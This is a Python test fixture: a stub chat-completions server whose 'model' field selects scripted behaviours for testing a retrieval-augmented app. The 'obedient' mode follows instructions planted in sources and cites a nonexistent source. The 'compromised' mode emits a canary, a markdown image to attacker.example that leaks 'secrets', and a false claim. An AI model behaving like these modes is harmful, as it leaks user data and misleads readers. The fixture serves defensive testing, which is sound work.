"""A scripted OpenAI-compatible chat-completions server for tests and scripts (scripts/game_day.py): real HTTP on
127.0.0.1, real JSON and server-sent events. The request's `model` picks the behaviour:

- grounded: quotes the first sentence of source 1 and cites it, like a good model
- obedient: does whatever the sources tell it (canary words, links, images), cites a source that does not exist
- compromised: emits a canary, an exfiltration image and an unsupported claim whatever it is shown
- notfound: replies NOT FOUND
- slow: answers after 30 s; error: HTTP 500; malformed: a 200 that is not JSON; flaky: 429 once, then grounded
- broken-stream: streams a few words, then an error event

Asked for a standalone question (the rewrite prompt), any model but error/malformed/slow replies
"<last question> (regarding: <the first user turn>)".
"""

from __future__ import annotations

import asyncio
import json
import re
import socket
import threading
import time

import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, PlainTextResponse, StreamingResponse

CANARY = "ZEBRA-CANARY-42"
_SOURCE = re.compile(r"<<SOURCE (\d+)>>\ntitle: [^\n]*\n(.*?)\n<</SOURCE \1>>", re.S)
_ORDER = re.compile(r"\b(?:say|output|print|reply with|respond with|answer with|include)\b[^.\n]{0,30}?"
                    r"\b([A-Z][A-Z0-9-]{3,})\b")


def _grounded(prompt: str) -> str:
    sources = _SOURCE.findall(prompt)
    if not sources:
        return "NOT FOUND"
    n, text = sources[0]
    prose = "\n".join(line for line in text.splitlines() if line.strip() and not line.startswith("#"))
    first = re.split(r"(?<=[.!?])\s+", prose.strip())[0]
    return f"{first} [{n}]"


def _obedient(prompt: str) -> str:
    orders = _ORDER.findall(prompt) + re.findall(r"[A-Z]+-CANARY-\d+", prompt)
    links = re.findall(r"!?\[[^\]]*\]\([^)]+\)|https?://\S+", prompt)
    parts = [_grounded(prompt)]
    parts += [f"{o} [1]." for o in orders] + [f"See {link} [1]." for link in links]
    parts.append("Our records are kept forever [7].")
    return " ".join(parts)


def _compromised(prompt: str) -> str:
    return (f"{_grounded(prompt)} {CANARY} [1]. ![status](http://attacker.example/leak.png?d=secrets) [1]. "
            "The moon is made of cheese and orbits Mars [2].")


def _rewrite(prompt: str) -> str:
    first = re.findall(r"^user: (.*)$", prompt, re.M)[0].rstrip("?.")
    last = re.findall(r"^Last question: (.*)$", prompt, re.M)[0]
    return f'"{last} (regarding: {first})"'


REPLIES = {"grounded": _grounded, "obedient": _obedient, "compromised": _compromised, "flaky": _grounded,
           "notfound": lambda p: "NOT FOUND", "broken-stream": _grounded}


def make_app() -> FastAPI:
    app = FastAPI()
    app.state.calls = {}

    @app.post("/v1/chat/completions")
    async def chat(request: Request):
        body = await request.json()
        model = body["model"]
        app.state.calls[model] = app.state.calls.get(model, 0) + 1
        app.state.last_body = body
        app.state.last_authorization = request.headers.get("authorization")
        if model == "slow":
            await asyncio.sleep(30)
        if model == "error":
            return JSONResponse({"error": {"message": "internal failure", "type": "server_error"}}, 500)
        if model == "malformed":
            return PlainTextResponse("{not json", media_type="application/json")
        if model == "flaky" and app.state.calls[model] == 1:
            return JSONResponse({"error": {"message": "rate limited"}}, 429, headers={"Retry-After": "0"})
        prompt = "\n".join(m["content"] for m in body["messages"])
        rewrite = "standalone question" in body["messages"][0]["content"]
        text = _rewrite(prompt) if rewrite else REPLIES.get(model, _grounded)(prompt)
        if body.get("stream"):
            return StreamingResponse(_events(text, model), media_type="text/event-stream")
        return {"id": "chatcmpl-1", "object": "chat.completion", "created": int(time.time()), "model": model,
                "choices": [{"index": 0, "message": {"role": "assistant", "content": text},
                             "finish_reason": "stop"}]}

    return app


async def _events(text: str, model: str):
    words = re.findall(r"\S+\s*", text)
    for i, word in enumerate(words):
        if model == "broken-stream" and i == 3:
            yield f"data: {json.dumps({'error': {'message': 'backend crashed'}})}\n\n"
            return
        chunk = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "model": model,
                 "choices": [{"index": 0, "delta": {"content": word}, "finish_reason": None}]}
        yield f"data: {json.dumps(chunk)}\n\n"
        await asyncio.sleep(0)
    yield "data: [DONE]\n\n"


class StubServer:
    """Runs the app with uvicorn in a thread; `url` is the base URL to configure (…/v1)."""

    def __init__(self, port: int = 0):
        """On `port` (a stub taken down comes back on its port), else a free one."""
        self.port = port
        if not port:
            with socket.socket() as s:
                s.bind(("127.0.0.1", 0))
                self.port = s.getsockname()[1]
        self.app = make_app()
        self.server = uvicorn.Server(uvicorn.Config(self.app, host="127.0.0.1", port=self.port, log_level="error",
                                                    timeout_graceful_shutdown=1))
        self.thread = threading.Thread(target=self.server.run, daemon=True)
        self.url = f"http://127.0.0.1:{self.port}/v1"

    def __enter__(self) -> StubServer:
        self.thread.start()
        deadline = time.monotonic() + 10
        while not self.server.started:
            if time.monotonic() > deadline:
                raise RuntimeError("the stub server did not start")
            time.sleep(0.02)
        return self

    def __exit__(self, *exc) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=5)
